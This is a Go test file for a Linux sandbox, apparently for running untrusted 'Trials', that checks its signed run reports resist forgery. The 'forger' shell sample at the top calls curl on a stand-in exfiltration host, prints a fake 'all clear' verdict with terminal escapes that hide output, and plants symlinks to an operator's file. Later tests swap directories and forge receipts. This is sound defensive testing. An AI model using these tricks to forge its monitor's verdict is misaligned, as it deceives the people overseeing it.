//go:build linux

package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"maps"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/trialnet/trialnet/agent"
	"github.com/trialnet/trialnet/client"
	"github.com/trialnet/trialnet/internal/privtest"
	"github.com/trialnet/trialnet/internal/testpty"
	"github.com/trialnet/trialnet/record"
)

// forger is a Trial that makes one refused CONNECT, then prints a forged
// "all clear" summary and leaves the terminal with autowrap off and the
// cursor at the right margin, as the reviewer's did; and plants a symlink
// where the report will be written, to an operator's file.
const forger = `curl -sS --max-time 5 https://exfil.example.net/ 2>/dev/null
printf 'trialnet: Trial run-x: exit 0 after 1s; tunnels: 0 allowed, 0 refused; verdict: 0 direct egress packets (ok)\n\033[?7l\033[999C' >&2
ln -s "$VICTIM" "$REPORT" && ln -s "$VICTIM" "$REPORT.planted"
echo '{"verdict":"forged"}' >&3 2>/dev/null
exit 0`

type runReport struct {
	Trial   string               `json:"trial"`
	Exit    int                  `json:"exit_code"`
	Proxy   record.TrialStats    `json:"proxy"`
	Verdict string               `json:"verdict"`
	Summary string               `json:"summary"`
	Receipt client.SignedReceipt `json:"receipt"`
}

// reportFixture is what the report tests share: a directory the Trial's
// uid can reach and write, outside its own /tmp (sticky, so that it may
// add its own entries but not move root's; os.Chmod would drop the
// sticky bit), an operator's file the forger's symlinks point at, and
// the report path in the shared directory the forger reads ($REPORT).
type reportFixture struct{ shared, victim, report string }

func newReportFixture(t *testing.T) reportFixture {
	t.Helper()
	privtest.Require(t)
	privtest.RequireTool(t, "curl")
	installedByTest(t)
	f := reportFixture{shared: privtest.SharedDir(t, "report-"), victim: filepath.Join(t.TempDir(), "operator-file")}
	if err := unix.Chmod(f.shared, 0o1777); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(f.victim, []byte("untouched\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	f.report = filepath.Join(f.shared, "report.json")
	t.Setenv("VICTIM", f.victim)
	t.Setenv("REPORT", f.report)
	return f
}

// checkReport reads a forger's run report: the real verdict, its one
// refusal, and a receipt.
func checkReport(t *testing.T, b []byte) runReport {
	t.Helper()
	var r runReport
	if err := json.Unmarshal(b, &r); err != nil {
		t.Fatalf("report: %v\n%s", err, b)
	}
	if r.Proxy.Denied != 1 || strings.Contains(r.Verdict, "forged") || !strings.Contains(r.Summary, "1 refused (exfil.example.net:443 ×1)") {
		t.Fatalf("report %+v: want the real verdict, one refusal", r)
	}
	if r.Receipt.Signature == nil {
		t.Fatal("the report carries no signed receipt")
	}
	return r
}

// The verdict a harness reads is trialnet's: the report goes to a file
// the Trial cannot write or to a descriptor it never had (a pipe), and
// carries a receipt that verify accepts, and refuses once changed.
func TestPrivilegedRunReportIsTheVerdict(t *testing.T) {
	f := newReportFixture(t)
	victim := f.victim
	report := f.report
	check := checkReport

	t.Run("file", func(t *testing.T) {
		// Where the Trial may write the report's directory (sticky or
		// not), it could plant its own file there first: refused, before
		// the Trial runs, so nothing is planted.
		code, _, errOut := trialnet("run", "--allow", "allowed.example.test:443", "--uid", "65534", "--report", report, "--", "sh", "-c", forger)
		if code != exitUsage || !strings.Contains(errOut, "put its own file at the report's name") {
			t.Fatalf("--report in a directory the Trial writes: exit %d\n%s", code, errOut)
		}
		if _, err := os.Lstat(report + ".planted"); err == nil {
			t.Fatal("the Trial ran")
		}
		safe := filepath.Join(t.TempDir(), "report.json")
		code, _, errOut = trialnet("run", "--allow", "allowed.example.test:443", "--uid", "65534", "--report", safe, "--", "sh", "-c", forger)
		if code != 0 {
			t.Fatalf("run: exit %d\n%s", code, errOut)
		}
		if b, _ := os.ReadFile(victim); string(b) != "untouched\n" {
			t.Fatalf("the operator's file: %q", b)
		}
		b, err := os.ReadFile(safe)
		if err != nil {
			t.Fatal(err)
		}
		check(t, b)
		if code, out, errOut := trialnet("verify", safe); code != 0 || !strings.Contains(out, "receipt ok") {
			t.Fatalf("verify the report: exit %d\n%s%s", code, out, errOut)
		}
		// Changed after signing, in any of its fields, or made ambiguous
		// with a key twice (readers differ on which they take): refused.
		var fields map[string]json.RawMessage
		if err := json.Unmarshal(b, &fields); err != nil {
			t.Fatal(err)
		}
		var sr client.SignedReceipt
		if err := json.Unmarshal(fields["receipt"], &sr); err != nil {
			t.Fatal(err)
		}
		var compact bytes.Buffer
		if err := json.Compact(&compact, sr.Receipt); err != nil {
			t.Fatal(err)
		}
		changed := bytes.Replace(compact.Bytes(), []byte(`"tunnels_denied":1`), []byte(`"tunnels_denied":0`), 1)
		if bytes.Equal(changed, compact.Bytes()) {
			t.Fatal("the receipt has no tunnels_denied of 1 to change")
		}
		sr.Receipt = changed
		bareChanged, _ := json.Marshal(sr)
		withField := func(k, v string) []byte {
			f := maps.Clone(fields)
			f[k] = json.RawMessage(v)
			out, _ := json.Marshal(f)
			return out
		}
		unsigned := maps.Clone(fields)
		delete(unsigned, "report_signature")
		noSig, _ := json.Marshal(unsigned)
		for name, forged := range map[string][]byte{
			"a receipt changed":                bareChanged,
			"the report's verdict changed":     withField("verdict", `"verdict: 0 direct egress packets (ok)"`),
			"the report's exit code changed":   withField("exit_code", `7`),
			"the report's summary changed":     withField("summary", `"trialnet: all clear"`),
			"the report's signature taken off": noSig,
			// The genuine one last, as Go's decoder takes it; a reader
			// that takes the first would see the forged one.
			"a key twice":                  append([]byte(`{"verdict":"forged (ok)",`), bytes.TrimPrefix(bytes.TrimSpace(b), []byte("{"))...),
			"a key twice, in another case": append([]byte(`{"VERDICT":"forged (ok)",`), bytes.TrimPrefix(bytes.TrimSpace(b), []byte("{"))...),
		} {
			path := filepath.Join(t.TempDir(), "forged.json")
			if err := os.WriteFile(path, forged, 0o644); err != nil {
				t.Fatal(err)
			}
			if code, out, errOut := trialnet("verify", "--no-log", path); code != exitFailure || !strings.Contains(errOut, "does not verify") {
				t.Errorf("verify %s: exit %d, %q %q; want refused", name, code, out, errOut)
			}
		}
	})

	t.Run("descriptor", func(t *testing.T) {
		f, err := os.Create(filepath.Join(t.TempDir(), "fd-report.json"))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		// bash, not sh: dash reads ">&12" as a syntax error, and the
		// descriptor's number is whatever this process gets.
		code, _, errOut := trialnet("run", "--allow", "allowed.example.test:443", "--uid", "65534", "--report-fd", fmt.Sprint(f.Fd()), "--",
			"bash", "-c", strings.ReplaceAll(forger, ">&3", fmt.Sprintf(">&%d", f.Fd())))
		if code != 0 {
			t.Fatalf("run: exit %d\n%s", code, errOut)
		}
		b, err := os.ReadFile(f.Name())
		if err != nil {
			t.Fatal(err)
		}
		check(t, b)
	})

	// The documented way: a pipe the harness reads.
	t.Run("descriptor on a pipe", func(t *testing.T) {
		r, w, err := os.Pipe()
		if err != nil {
			t.Fatal(err)
		}
		defer r.Close()
		got := make(chan []byte, 1)
		go func() { b, _ := io.ReadAll(r); got <- b }()
		code, _, errOut := trialnet("run", "--allow", "allowed.example.test:443", "--uid", "65534", "--report-fd", fmt.Sprint(w.Fd()), "--",
			"bash", "-c", strings.ReplaceAll(forger, ">&3", fmt.Sprintf(">&%d", w.Fd())))
		_ = w.Close()
		if code != 0 {
			t.Fatalf("run: exit %d\n%s", code, errOut)
		}
		check(t, <-got)
	})
}

// A report's place the Trial could change is refused before anything is
// made, opened or written there.
func TestPrivilegedReportOutOfTheTrialsReach(t *testing.T) {
	f := newReportFixture(t)
	shared := f.shared

	// Where the Trial could move a directory on the way, run refuses
	// before anything runs, and says what to use instead. The attack it
	// stops: the Trial moves the report's directory away and puts its
	// own, with an earlier clean report, in its place.
	t.Run("a directory the Trial could swap", func(t *testing.T) {
		open := filepath.Join(shared, "open")
		if err := os.Mkdir(open, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(open, 65534, 65534); err != nil {
			t.Fatal(err)
		}
		out := filepath.Join(open, "out")
		if err := os.Mkdir(out, 0o755); err != nil { // root's, in the Trial's
			t.Fatal(err)
		}
		world := filepath.Join(shared, "world")
		if err := os.Mkdir(world, 0o777); err != nil {
			t.Fatal(err)
		}
		if err := unix.Chmod(world, 0o777); err != nil { // root's, not sticky
			t.Fatal(err)
		}
		swapped := filepath.Join(shared, "swapped")
		swap := fmt.Sprintf("mv %s %s.moved && mkdir %s && echo '{\"exit_code\":0}' > %s/report.json && touch %s", out, out, out, out, swapped)
		for _, c := range []struct{ report, why string }{
			{filepath.Join(out, "report.json"), "is owned by uid 65534"},
			{filepath.Join(open, "report.json"), "is owned by uid 65534"},
			{filepath.Join(world, "report.json"), "world-writable"},
		} {
			code, _, errOut := trialnet("run", "--uid", "65534", "--report", c.report, "--", "sh", "-c", swap)
			if code != exitUsage || !strings.Contains(errOut, "could be swapped by the Trial") || !strings.Contains(errOut, "--report-dir "+suggestedReportDir) ||
				!strings.Contains(errOut, c.why) {
				t.Fatalf("--report %s: exit %d, want %d and %q\n%s", c.report, code, exitUsage, c.why, errOut)
			}
			if _, err := os.Stat(swapped); err == nil {
				t.Fatal("the Trial ran")
			}
		}
	})

	// A refused place is left as it was: nothing made, opened or written
	// there as root, through the Trial's symlinks least of all; and a
	// path through the Trial's own symlink in a sticky directory, a
	// device, or the descriptor of the Trial's own stdout are refused.
	t.Run("refused places untouched", func(t *testing.T) {
		victim := t.TempDir()
		config := filepath.Join(victim, "app.json")
		if err := os.WriteFile(config, []byte("root config\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		att := filepath.Join(shared, "att")
		if err := os.Mkdir(att, 0o755); err != nil {
			t.Fatal(err)
		}
		link := filepath.Join(att, "d")
		if err := os.Symlink(victim, link); err != nil {
			t.Fatal(err)
		}
		sticky := filepath.Join(shared, "rv-out") // the Trial's symlink in a sticky directory
		if err := os.Symlink(victim, sticky); err != nil {
			t.Fatal(err)
		}
		for _, p := range []string{att, link, sticky} {
			if err := os.Lchown(p, 65534, 65534); err != nil {
				t.Fatal(err)
			}
		}
		null := filepath.Join(victim, "null")
		if err := unix.Mknod(null, unix.S_IFCHR|0o666, int(unix.Mkdev(1, 3))); err != nil {
			t.Fatal(err)
		}
		stdout, err := unix.Dup(1)
		if err != nil {
			t.Fatal(err)
		}
		defer unix.Close(stdout)
		for _, c := range []struct {
			args []string
			why  string
		}{
			{[]string{"--report", filepath.Join(link, "app.json")}, "is owned by uid 65534"},
			{[]string{"--id", "made-by-root", "--report-dir", filepath.Join(link, "made", "by", "root")}, "is owned by uid 65534"},
			{[]string{"--report", filepath.Join(sticky, "app.json")}, "is owned by uid 65534, the Trial's, which may replace it"},
			{[]string{"--report", null}, "not a regular file"},
			{[]string{"--report-fd", fmt.Sprint(stdout)}, "same pipe or file as descriptor 1"},
		} {
			args := append(append([]string{"run", "--uid", "65534"}, c.args...), "--", "true")
			if code, _, errOut := trialnet(args...); code != exitUsage || !strings.Contains(errOut, c.why) {
				t.Errorf("%q: exit %d, want %d and %q\n%s", c.args, code, exitUsage, c.why, errOut)
			}
		}
		if b, _ := os.ReadFile(config); string(b) != "root config\n" {
			t.Errorf("root's file behind the Trial's symlink was written: %q", b)
		}
		if _, err := os.Stat(filepath.Join(victim, "made")); err == nil {
			t.Error("root made directories behind the Trial's symlink")
		}
		if fi, err := os.Lstat(null); err != nil || fi.Mode()&os.ModeCharDevice == 0 {
			t.Errorf("the device at the report's name was replaced: %v %v", fi, err)
		}
	})

	// A descriptor on a file the Trial could replace (its directory is
	// the Trial's to write) or write itself: refused before anything
	// runs, as the file at --report is.
	t.Run("descriptor on a file in the Trial's reach", func(t *testing.T) {
		open := filepath.Join(shared, "fdopen")
		if err := os.Mkdir(open, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(open, 65534, 65534); err != nil {
			t.Fatal(err)
		}
		writable := filepath.Join(t.TempDir(), "writable.json")
		for _, c := range []struct {
			path string
			mode uint32
			why  string
		}{{filepath.Join(open, "report.json"), 0o644, "is owned by uid 65534"}, {writable, 0o666, "world-writable"}} {
			f, err := os.Create(c.path)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			if err := unix.Chmod(c.path, c.mode); err != nil {
				t.Fatal(err)
			}
			code, _, errOut := trialnet("run", "--uid", "65534", "--report-fd", fmt.Sprint(f.Fd()), "--", "true")
			if code != exitUsage || !strings.Contains(errOut, "which the Trial could replace") || !strings.Contains(errOut, c.why) || !strings.Contains(errOut, "3>&1 1>&2 | harness") {
				t.Fatalf("--report-fd on %s: exit %d, want %d and %q\n%s", c.path, code, exitUsage, c.why, errOut)
			}
		}
	})
}

// A report's place where no file can be made (a filesystem such as
// /proc, a read-only mount) is refused before the Trial runs, not found
// out when it ends and the run's report is lost.
func TestPrivilegedReportPlaceTakesNoFile(t *testing.T) {
	f := newReportFixture(t)
	ro := privtest.SharedDir(t, "report-ro-") // root's 0755, outside /tmp: out of the Trial's reach
	if err := unix.Chmod(ro, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mount("tmpfs", ro, "tmpfs", unix.MS_RDONLY, "size=64k,mode=755"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = unix.Unmount(ro, unix.MNT_DETACH) }) // before SharedDir's removal
	ran := filepath.Join(f.shared, "ran")
	for _, report := range []string{"/proc/sys/kernel/trialnet-report.json", "/proc/self/fd/1", filepath.Join(ro, "report.json")} {
		code, _, errOut := trialnet("run", "--uid", "65534", "--report", report, "--", "touch", ran)
		if code != exitUsage || !strings.Contains(errOut, "cannot make a file in") || !strings.Contains(errOut, suggestedReportDir) {
			t.Errorf("--report %s: exit %d, want %d and the place named\n%s", report, code, exitUsage, errOut)
		}
		if _, err := os.Stat(ran); err == nil {
			t.Fatalf("--report %s: the Trial ran", report)
		}
	}
	if ents, err := os.ReadDir(ro); err != nil || len(ents) != 0 {
		t.Fatalf("the read-only place holds %v (%v)", ents, err)
	}
}

// A report's place moved while the Trial ran is said loudly, exit 125.
func TestPrivilegedReportMovedDuringTheRun(t *testing.T) {
	f := newReportFixture(t)
	shared := f.shared

	// A directory swapped while the Trial ran (here by root, as no Trial
	// may): the report is written where run opened it, and run says
	// loudly that FILE is not it, exit 125 whatever CMD's code (3).
	t.Run("a directory swapped during the run", func(t *testing.T) {
		base := t.TempDir()
		out := filepath.Join(base, "out")
		if err := os.Mkdir(out, 0o755); err != nil {
			t.Fatal(err)
		}
		token := "trialnet-swap-" + filepath.Base(base)
		marker := filepath.Join(shared, token)
		done := make(chan error, 1)
		go func() { done <- swapWhenRunning(token, out, marker) }()
		code, _, errOut := trialnet("run", "--uid", "65534", "--report", filepath.Join(out, "report.json"), "--",
			"sh", "-c", `i=0; while [ ! -e "$1" ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; exit 3`, token, marker)
		if err := <-done; err != nil {
			t.Fatal(err)
		}
		if code != exitFailure || !strings.Contains(errOut, "REPORT NOT WHERE IT WAS ASKED FOR") || !strings.Contains(errOut, out+".moved") {
			t.Fatalf("run: exit %d, want %d and the report's real place\n%s", code, exitFailure, errOut)
		}
		if _, err := os.Stat(filepath.Join(out+".moved", "report.json")); err != nil {
			t.Fatalf("the report is not where run opened its directory: %v", err)
		}
	})
}

// A report is bound to its run: its nonce and its Trial.
func TestPrivilegedReportBoundToItsRun(t *testing.T) {
	privtest.Require(t)
	installedByTest(t)

	// --report-dir: DIR/ID.json, made if missing, its path said before
	// the Trial starts; the receipt carries the harness's nonce, and
	// verify takes no other run's receipt for it.
	t.Run("report-dir and nonce", func(t *testing.T) {
		dir := filepath.Join(t.TempDir(), "reports")
		code, _, errOut := trialnet("run", "--uid", "65534", "--report-dir", dir, "--id", "nonce-a", "--nonce", "harness-run-a", "--", "true")
		path := filepath.Join(dir, "nonce-a.json")
		if code != 0 || !strings.Contains(errOut, "trialnet: Trial nonce-a: its report will be "+path) {
			t.Fatalf("run --report-dir: exit %d\n%s", code, errOut)
		}
		if code, _, errOut := trialnet("run", "--uid", "65534", "--report-dir", dir, "--id", "nonce-b", "--", "true"); code != 0 {
			t.Fatalf("run --report-dir, no nonce: exit %d\n%s", code, errOut)
		}
		// A run refused after its report was opened: a signed report
		// with no receipt, which verify says is no verdict.
		if code, _, errOut := trialnet("run", "--uid", "65534", "--report-dir", dir, "--id", "nonce-c", "--nonce", "harness-run-c", "--allow", "*.com:443", "--", "true"); code != exitUsage {
			t.Fatalf("run refused after its report opened: exit %d\n%s", code, errOut)
		}
		for _, c := range []struct {
			args []string
			code int
			want string
		}{
			{[]string{"--nonce", "harness-run-a", "--trial", "nonce-a", path}, exitOK, "nonce harness-run-a"},
			{[]string{"--nonce", "harness-run-b", path}, exitFailure, `carries nonce "harness-run-a", not "harness-run-b"`},
			{[]string{"--trial", "nonce-b", path}, exitFailure, `of Trial "nonce-a", not "nonce-b"`},
			{[]string{"--nonce", "harness-run-a", filepath.Join(dir, "nonce-b.json")}, exitFailure, "carries no nonce"},
			{[]string{"--nonce", "harness-run-c", filepath.Join(dir, "nonce-c.json")}, exitNoVerdict, `no verdict: run of Trial nonce-c (nonce "harness-run-c") ended with exit 2`},
			// Another run's failure is not this run's: a harness would
			// take it for why its own run has no verdict.
			{[]string{"--nonce", "harness-run-a", filepath.Join(dir, "nonce-c.json")}, exitFailure, `carries nonce "harness-run-c", not "harness-run-a"`},
			{[]string{"--trial", "nonce-a", filepath.Join(dir, "nonce-c.json")}, exitFailure, `of Trial "nonce-c", not "nonce-a"`},
		} {
			code, out, errOut := trialnet(append([]string{"verify"}, c.args...)...)
			if code != c.code || !strings.Contains(out+errOut, c.want) {
				t.Errorf("verify %q: exit %d, want %d and %q\n%s%s", c.args, code, c.code, c.want, out, errOut)
			}
		}
	})
}

// swapWhenRunning waits (bounded) for a process whose command line holds
// token, then moves dir away, makes a new one in its place and creates
// marker, which the process waits for.
func swapWhenRunning(token, dir, marker string) error {
	deadline := time.Now().Add(20 * time.Second)
	for !processWith(token) {
		if time.Now().After(deadline) {
			return fmt.Errorf("no process with %q started", token)
		}
		time.Sleep(20 * time.Millisecond)
	}
	if err := os.Rename(dir, dir+".moved"); err != nil {
		return err
	}
	if err := os.Mkdir(dir, 0o755); err != nil {
		return err
	}
	return os.WriteFile(marker, nil, 0o644)
}

// processWith reports whether a process's command line holds s.
func processWith(s string) bool {
	m, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, p := range m {
		if b, err := os.ReadFile(p); err == nil && bytes.Contains(b, []byte(s)) {
			return true
		}
	}
	return false
}

// After the Trial, a terminal gets back autowrap, the cursor, plain
// attributes, the main screen, ASCII in G0 and G1, its default colours
// and palette, and a fresh line, before trialnet's own lines.
func TestResetTerminal(t *testing.T) {
	master, slave := testpty.Open(t, 24, 80)
	resetTerminal(slave)
	resetTerminal(&bytes.Buffer{}) // not a terminal: nothing
	buf := make([]byte, 512)
	n, err := master.Read(buf)
	if err != nil {
		t.Fatal(err)
	}
	got := string(buf[:n])
	for _, want := range []string{"\x1b[?7h", "\x1b[?25h", "\x1b[0m", "\x1b[?1049l", "\x0f", "\x1b(B", "\x1b)B", "\x1b]104", "\x1b]110", "\x1b]111"} {
		if !strings.Contains(got, want) {
			t.Fatalf("reset %q lacks %q", got, want)
		}
	}
}

// What the relay says at the Trial's end is held until the Trial is over,
// and then said after a reset, so that a screen the Trial left (the
// alternate one) cannot hide it; nothing held, nothing is written.
func TestHeldNoticesFollowTheReset(t *testing.T) {
	master, slave := testpty.Open(t, 24, 80)
	var none heldNotices
	none.say(slave, true)
	var held heldNotices
	const line = "trialnet: answers may still come\n"
	if _, err := io.WriteString(&held, line); err != nil {
		t.Fatal(err)
	}
	held.say(slave, true)
	var got []byte
	buf := make([]byte, 256)
	for !bytes.Contains(got, []byte("come")) {
		n, err := master.Read(buf)
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, buf[:n]...)
	}
	reset := strings.Index(string(got), "\x1b[?1049l")
	said := strings.Index(string(got), "trialnet: answers")
	if reset != 0 || said < reset {
		t.Fatalf("the terminal read %q: want the reset, then the notice, and nothing before", got)
	}
}

// run confines where a Trial makes sockets and FIFOs (its own /dev/shm),
// unless it is run without unix confinement, which the command then gets.
func TestPrivilegedRunConfinesSocketPaths(t *testing.T) {
	privtest.Require(t)
	installedByTest(t)
	shared := privtest.SharedDir(t, "fifo-")
	if err := os.Chmod(shared, 0o1777); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		flags []string
		code  int
	}{{nil, 1}, {[]string{"--no-unix-confine"}, 0}} {
		fifo := filepath.Join(shared, fmt.Sprintf("fifo-%d", c.code))
		args := append(append([]string{"run", "--uid", "65534"}, c.flags...), "--", "mkfifo", fifo)
		if code, _, errOut := trialnet(args...); code != c.code {
			t.Errorf("run %v: exit %d, want %d\n%s", c.flags, code, c.code, errOut)
		}
	}
	if code, _, errOut := trialnet("run", "--uid", "65534", "--", "mkfifo", "/dev/shm/own"); code != 0 {
		t.Errorf("a FIFO in the Trial's own /dev/shm: exit %d\n%s", code, errOut)
	}
}

// verify on a file that holds no receipt, or with a key file that is no
// key, says so and fails.
func TestVerifyBadInput(t *testing.T) {
	dir := t.TempDir()
	empty := filepath.Join(dir, "empty.json")
	if err := os.WriteFile(empty, []byte(`{"verdict":"ok"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	if code, _, errOut := trialnet("verify", empty); code != exitUsage || !strings.Contains(errOut, "holds no signed receipt") {
		t.Errorf("verify a file without a receipt: exit %d, %q", code, errOut)
	}
	signed := filepath.Join(dir, "receipt.json")
	if err := os.WriteFile(signed, []byte(`{"receipt":{"schema":1},"signature":"AAAA","public_key":"AAAA"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	if code, _, errOut := trialnet("verify", "--key", empty, signed); code != exitUsage || !strings.Contains(errOut, "is not an ed25519 public key") {
		t.Errorf("verify with a key file that is no key: exit %d, %q", code, errOut)
	}
}

// asBareReceipt makes, from a genuine signed run report, a bare receipt
// file whose "receipt" is the report's signed canonical bytes and whose
// signature is the report's own: what a Trial holding a report could
// write where a harness verifies.
func asBareReceipt(t *testing.T, report string) string {
	t.Helper()
	b, err := os.ReadFile(report)
	if err != nil {
		t.Fatal(err)
	}
	var fields map[string]json.RawMessage
	if err := json.Unmarshal(b, &fields); err != nil {
		t.Fatal(err)
	}
	var sig agent.ReportSignature
	if err := json.Unmarshal(fields[reportSignatureKey], &sig); err != nil || sig.Signature == nil {
		t.Fatalf("the report is not signed: %v\n%s", err, b)
	}
	delete(fields, reportSignatureKey)
	canonical, err := json.Marshal(fields)
	if err != nil {
		t.Fatal(err)
	}
	bare, err := json.Marshal(client.SignedReceipt{Receipt: canonical, Signature: sig.Signature, PublicKey: sig.PublicKey})
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "receipt.json")
	if err := os.WriteFile(path, bare, 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// hoistedReceipt makes, from a genuine run report, a file with its
// receipt at the top (a bare receipt's shape) beside the report's fields,
// changed: the exit code, the verdict and the summary a harness reads.
func hoistedReceipt(t *testing.T, report string) string {
	t.Helper()
	b, err := os.ReadFile(report)
	if err != nil {
		t.Fatal(err)
	}
	var fields map[string]json.RawMessage
	if err := json.Unmarshal(b, &fields); err != nil {
		t.Fatal(err)
	}
	var inner map[string]json.RawMessage
	if err := json.Unmarshal(fields["receipt"], &inner); err != nil || inner["signature"] == nil {
		t.Fatalf("the report holds no signed receipt: %v\n%s", err, b)
	}
	maps.Copy(fields, inner)
	fields["exit_code"] = json.RawMessage(`0`)
	fields["verdict"] = json.RawMessage(`"verdict: 0 direct egress packets (ok)"`)
	fields["summary"] = json.RawMessage(`"trialnet: all clear"`)
	out, err := json.Marshal(fields)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "hoisted.json")
	if err := os.WriteFile(path, out, 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// A report's signature is no receipt's: the same host key signs both, so
// a report's signed bytes, set out as a bare receipt, must not verify.
// Else a run that ended without a verdict (its report carries the
// harness's nonce and no counters) becomes a receipt of this run with
// nothing refused and no decision log to check.
func TestPrivilegedReportSignatureIsNoReceipt(t *testing.T) {
	privtest.Require(t)
	installedByTest(t)
	dir := filepath.Join(t.TempDir(), "reports")
	if code, _, errOut := trialnet("run", "--uid", "65534", "--report-dir", dir, "--id", "sig-ok", "--", "sh", "-c", "exit 3"); code != 3 {
		t.Fatalf("run: exit %d\n%s", code, errOut)
	}
	if code, _, errOut := trialnet("run", "--uid", "65534", "--report-dir", dir, "--id", "sig-failed", "--nonce", "harness-run-f", "--allow", "*.com:443", "--", "true"); code != exitUsage {
		t.Fatalf("run refused after its report opened: exit %d\n%s", code, errOut)
	}
	for _, c := range []struct {
		name string
		args []string
	}{
		{"a run's report", []string{asBareReceipt(t, filepath.Join(dir, "sig-ok.json"))}},
		{"a run without a verdict", []string{"--nonce", "harness-run-f", "--trial", "sig-failed", asBareReceipt(t, filepath.Join(dir, "sig-failed.json"))}},
		{"a receipt beside forged report fields", []string{"--trial", "sig-ok", hoistedReceipt(t, filepath.Join(dir, "sig-ok.json"))}},
	} {
		code, out, errOut := trialnet(append([]string{"verify"}, c.args...)...)
		if code != exitFailure || !strings.Contains(errOut, "does not verify") {
			t.Errorf("verify %s set out as a receipt: exit %d, want %d (forged)\n%s%s", c.name, code, exitFailure, out, errOut)
		}
	}
}

// What --report-dir makes is checked again once it is there: a part of
// DIR missing at the first check, beneath a sticky directory the Trial's
// uid can write (/var/tmp), can be made first by another process of
// that uid (another Trial's, running beside), and MkdirAll then takes
// it as it finds it. Here the race is already lost: the directory is
// the Trial's when the report's directory is opened.
func TestPrivilegedReportDirMadeFirstByTheTrial(t *testing.T) {
	privtest.Require(t)
	sticky := filepath.Join(t.TempDir(), "sticky")
	if err := os.Mkdir(sticky, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := unix.Chmod(sticky, 0o1777); err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(sticky, "reports")
	path := filepath.Join(dir, "race.json")
	if err := checkReportPath(path, 65534, 65534); err != nil {
		t.Fatalf("the first check, DIR not yet made: %v", err)
	}
	// The other process wins: DIR is made, and is the Trial's.
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(dir, 65534, 65534); err != nil {
		t.Fatal(err)
	}
	r, err := openReportFile(path, "--report-dir "+dir, 65534, 65534)
	if err == nil {
		r.dir.Close()
		t.Fatalf("the report's directory, made first by the Trial's uid, was taken")
	}
	if !strings.Contains(err.Error(), "is owned by uid 65534") {
		t.Fatalf("refused, but not for the Trial's directory: %v", err)
	}
}

// --report-dir DIR is taken as the kernel resolves it, as a harness
// reading DIR/ID.json will: "link/.." in DIR is the parent of where link
// leads, not DIR without it. Here that is the Trial's directory, while
// DIR cleaned is root's: checked and written cleaned, the report went to
// root's and the harness read the Trial's.
func TestPrivilegedReportDirDotDotAfterSymlink(t *testing.T) {
	privtest.Require(t)
	installedByTest(t)
	base := t.TempDir()
	trials := filepath.Join(base, "project")
	sub := filepath.Join(trials, "run-17")
	if err := os.MkdirAll(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(trials, 65534, 65534); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(sub, filepath.Join(base, "current")); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(base, "reports"), 0o755); err != nil { // DIR cleaned: root's
		t.Fatal(err)
	}
	dir := filepath.Join(base, "current") + "/../reports"
	code, _, errOut := trialnet("run", "--uid", "65534", "--report-dir", dir, "--id", "dotdot", "--", "true")
	if code != exitUsage || !strings.Contains(errOut, "is owned by uid 65534") {
		t.Errorf("--report-dir %s, which leads into the Trial's directory: exit %d, want %d\n%s", dir, code, exitUsage, errOut)
	}
	if _, err := os.Stat(filepath.Join(trials, "reports")); err == nil {
		t.Error("root made the report's directory in the Trial's")
	}
}

// verify reads regular files only: a receipt, decision log or key that is
// a FIFO (or a symlink to /dev/zero) where a Trial could put one would
// hang verify, run as root, or fill its memory, and the harness with it.
func TestPrivilegedVerifyReadsRegularFilesOnly(t *testing.T) {
	privtest.Require(t)
	installedByTest(t)
	dir := t.TempDir()
	fifo := filepath.Join(dir, "fifo")
	if err := unix.Mkfifo(fifo, 0o644); err != nil {
		t.Fatal(err)
	}
	zero := filepath.Join(dir, "zero")
	if err := os.Symlink("/dev/zero", zero); err != nil {
		t.Fatal(err)
	}
	report := filepath.Join(dir, "report.json")
	if code, _, errOut := trialnet("run", "--uid", "65534", "--report", report, "--", "true"); code != 0 {
		t.Fatalf("run: exit %d\n%s", code, errOut)
	}
	for _, args := range [][]string{{fifo}, {zero}, {"--log", fifo, report}, {"--log", zero, report}, {"--key", fifo, report}, {"--key", zero, report}} {
		code, out, errOut := trialnet(append([]string{"verify"}, args...)...)
		if code == exitOK || !strings.Contains(errOut, "not a regular file") {
			t.Errorf("verify %q: exit %d, want refused as not a regular file\n%s%s", args, code, out, errOut)
		}
	}
}

// The report's place is checked against the Trial's uid and gid alone:
// sound only while a Trial holds no supplementary group. Here trialnet's
// own groups include the group that may write the report's directory;
// the Trial, started by it, must not.
func TestPrivilegedReportTrialHasNoSupplementaryGroups(t *testing.T) {
	privtest.Require(t)
	installedByTest(t)
	const group = 4242
	before, err := syscall.Getgroups()
	if err != nil {
		t.Fatal(err)
	}
	// syscall's, which sets every thread's (x/sys/unix's sets one).
	if err := syscall.Setgroups(append(slices.Clone(before), group)); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := syscall.Setgroups(before); err != nil {
			t.Error(err)
		}
	})
